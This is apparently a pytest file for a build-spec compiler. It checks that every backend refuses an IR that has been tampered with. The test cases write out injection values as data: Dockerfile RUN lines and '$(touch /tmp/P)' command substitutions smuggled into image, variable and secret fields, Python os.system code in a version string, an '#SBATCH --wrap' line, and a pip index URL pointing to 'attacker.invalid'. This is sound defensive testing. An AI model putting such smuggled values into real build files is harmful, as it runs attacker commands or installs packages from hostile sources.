"""Defence in depth: a backend given a value the checker would have refused (a
hand-edited lock or IR, a bug upstream) raises BLD006 instead of writing it.

Each case takes a good IR, breaks one value the way an attacker would, and runs every
backend the value reaches.
"""

from __future__ import annotations

import copy
import importlib

import pytest

from tests.build.lowering import write_spec
from tests.build.support import compile_files
from xspec.backends.common import BackendError, Options

DIGEST = "sha256:" + "a" * 64
SPEC = f"""xspec 1
env e {{
  python = "3.11.9"
  image = "docker.io/library/python:3.11.9-slim@{DIGEST}"
  nixpkgs = "github:NixOS/nixpkgs/57d6973abba7ea108bac64ae7629e7431e0199b6"
  packages = {{ numpy = "==1.26.4" }}
  vars = {{ E = "1" }}
}}
experiment x {{
  env = e
  secret tok from env("TOKEN_SOURCE")
  vars = {{ TOKEN = tok, V = "v" }}
  run = ["python3", "t.py"]
  target slurm {{ partition = "debug" }}
}}
"""
MODULES = {"slurm": "slurm", "k8s": "k8s", "docker": "docker", "apptainer": "apptainer", "nix": "nix",
           "lock": "lockreq"}
INJECTED_IMAGE = f"python\nRUN touch /tmp/P\nFROM python@{DIGEST}"


@pytest.fixture(scope="module")
def ir(tmp_path_factory):
    spec = write_spec(tmp_path_factory.mktemp("p"), SPEC, full=True)
    compiled = compile_files(spec, ["ir"])
    assert not compiled.failed, [d.message for d in compiled.diagnostics]
    return compiled.ir


def _image(e):
    e["env"]["image"].update(ref=INJECTED_IMAGE, pinned=INJECTED_IMAGE)


def _secret_source(e):
    e["secrets"][0]["variable"] = "HOME}$(touch /tmp/P)"


def _var_name(e):
    e["vars"]["A B$(touch /tmp/P)"] = [{"text": "x"}]


def _env_var_name(e):
    e["env"]["vars"]["A=B"] = "x"


def _requirement_line(e):
    e["env"]["requirements"] += "--index-url https://attacker.invalid/simple\n"


def _specifier(e):
    e["env"]["packages"][0]["specifier"] = "==1.0\n--find-links /tmp"
    e["env"]["requirements"] = "numpy==1.0\n--find-links /tmp\n"


def _concatenated(e):
    e["env"]["requirements"] = "numpybanana\n"      # what `f"{name}{specifier}"` wrote


def _python(e):
    e["env"]["python"] = '3.11.9"; import os; os.system("touch /tmp/P"); "'


def _partition(e):
    e["targets"]["slurm"]["settings"]["partition"] = "gpu\n#SBATCH --wrap=id"


def _index_url(e):
    e["env"]["index_url"] = "https://pypi.example/simple\nRUN touch /tmp/P"


def _unlocked_locked(e):
    e["env"]["locked"] = True


CASES = [
    (_image, ["docker", "apptainer", "k8s"]),
    (_secret_source, ["slurm", "docker", "apptainer", "nix"]),
    (_var_name, ["slurm", "k8s", "docker", "apptainer", "nix"]),
    (_env_var_name, ["docker", "apptainer"]),
    (_requirement_line, ["docker", "apptainer", "nix"]),
    (_specifier, ["docker", "apptainer", "nix"]),
    (_concatenated, ["docker", "apptainer", "nix"]),
    (_python, ["docker", "apptainer"]),
    (_partition, ["slurm"]),
    (_index_url, ["docker", "apptainer", "nix"]),
]


@pytest.mark.parametrize("break_it, targets", CASES, ids=[c[0].__name__.strip("_") for c in CASES])
def test_a_backend_refuses_what_the_checker_would(ir, break_it, targets):
    for target in targets:
        broken = copy.deepcopy(ir)
        break_it(broken["experiments"][0])
        backend = importlib.import_module(f"xspec.backends.{MODULES[target]}")
        with pytest.raises(BackendError) as refused:
            backend.build(broken, Options(allow_unlocked=True))
        assert refused.value.code == "BLD006", (target, refused.value.message)


def test_the_lock_target_refuses_an_injected_requirements_line(ir):
    from xspec.backends import lockreq

    broken = copy.deepcopy(ir)
    _unlocked_locked(broken["experiments"][0])
    assert lockreq.build(broken, Options())            # the good file is written ...
    _requirement_line(broken["experiments"][0])
    with pytest.raises(BackendError) as refused:       # ... the injected one is not
        lockreq.build(broken, Options())
    assert refused.value.code == "BLD006"


def test_the_good_ir_builds_everywhere(ir):
    for target, module in MODULES.items():
        if target != "lock":
            assert importlib.import_module(f"xspec.backends.{module}").build(ir, Options(allow_unlocked=True))
